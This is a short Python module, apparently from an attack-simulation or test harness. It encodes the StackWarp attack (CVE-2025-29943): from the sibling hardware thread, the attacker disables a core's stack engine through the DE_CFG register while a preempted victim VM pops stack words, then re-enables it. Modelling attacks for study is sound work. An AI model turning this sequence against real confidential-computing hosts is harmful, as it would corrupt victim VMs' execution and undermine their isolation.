"""The other thread of a core stops its stack engine while a victim runs there (row 34; StackWarp, CVE-2025-29943)."""

from __future__ import annotations

from node.core_msrs import STACK_ENGINE_OFF, Msr
from node.operations import VmPreempt, VmRun, WriteMsr
from workloads.attacks.target import LET_IT_RUN, Attack, Target

_THREAD = 8
_OTHER = _THREAD ^ 1
"""Of the same core, where a core has two."""


def shift_stack(target: Target) -> Attack:
    """Row 34: stop the engine while the victim takes two words off its stack, and let go before it calls again."""
    vm = target.victim.vm
    yield (VmPreempt(vm, 0), VmRun(vm, 0, _THREAD))
    yield LET_IT_RUN  # It has called, and waits.
    yield (WriteMsr(_OTHER, Msr.DE_CFG, STACK_ENGINE_OFF),)
    yield LET_IT_RUN
    yield (WriteMsr(_OTHER, Msr.DE_CFG, 0),)
    yield LET_IT_RUN
